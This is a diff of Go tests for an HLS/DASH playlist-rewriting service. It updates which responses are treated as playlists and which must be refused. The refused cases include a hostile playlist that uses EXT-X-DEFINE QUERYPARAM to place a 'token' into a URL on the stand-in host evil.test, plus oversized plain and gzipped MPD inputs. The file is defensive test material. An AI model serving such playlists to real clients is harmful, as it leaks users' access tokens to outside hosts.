@@ -145,7 +145,8 @@ func TestOnlyPlaylistsAreRewritten(t *testing.T) {
 		{"playlist with a byte order mark", "index.m3u8", hls, "\ufeff" + list, true},
 		{"HTML under a playlist's name", "index.m3u8", "text/html", "<html>seg.ts</html>", false},
 		{"binary under a playlist's type", "index.m3u8", hls, "\x00\x01\x02seg.ts", false},
-		{"segment", "seg.ts", "video/mp2t", list, false},
+		{"playlist under a segment's name and type", "seg.ts", "video/mp2t", list, true},
+		{"segment", "seg.ts", "video/mp2t", "G@\x00\x11" + list, false},
 		{"empty", "index.m3u8", hls, "", false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -169,8 +170,8 @@ func TestOnlyPlaylistsAreRewritten(t *testing.T) {
 func TestPlaylistsThatAreRefused(t *testing.T) {
 	t.Parallel()
 	for name, handler := range map[string]http.HandlerFunc{
-		"DEFINE by QUERYPARAM": serve(hls, "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"token\"\nhttps://evil.test/{$token}\n"),
-		"more than 4 MiB":      serve(hls, "#EXTM3U\n"+strings.Repeat("segment.ts\n", 400_000)),
+		"DEFINE by QUERYPARAM":      serve(hls, "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"token\"\nhttps://evil.test/{$token}\n"),
+		"an MPD of more than 8 MiB": serve("application/dash+xml", "<MPD>"+strings.Repeat("<!-- comment -->", 600_000)+"</MPD>"),
 		"unknown encoding": func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Content-Encoding", "zstd, br, x-odd")
 			serve(hls, "#EXTM3U\nseg.ts\n")(w, r)
@@ -182,11 +183,11 @@ func TestPlaylistsThatAreRefused(t *testing.T) {
 			w.(http.Flusher).Flush()
 			panic(http.ErrAbortHandler)
 		},
-		"gzip of more than 4 MiB": func(w http.ResponseWriter, _ *http.Request) {
+		"an MPD of more than 8 MiB in gzip": func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Type", hls)
 			w.Header().Set("Content-Encoding", "gzip")
 			zip := gzip.NewWriter(w)
-			io.WriteString(zip, "#EXTM3U\n"+strings.Repeat("#\n", 4<<20))
+			io.WriteString(zip, "<MPD>"+strings.Repeat("<!-- comment -->", 600_000)+"</MPD>")
 			zip.Close()
 		},
 		"broken gzip": func(w http.ResponseWriter, r *http.Request) {
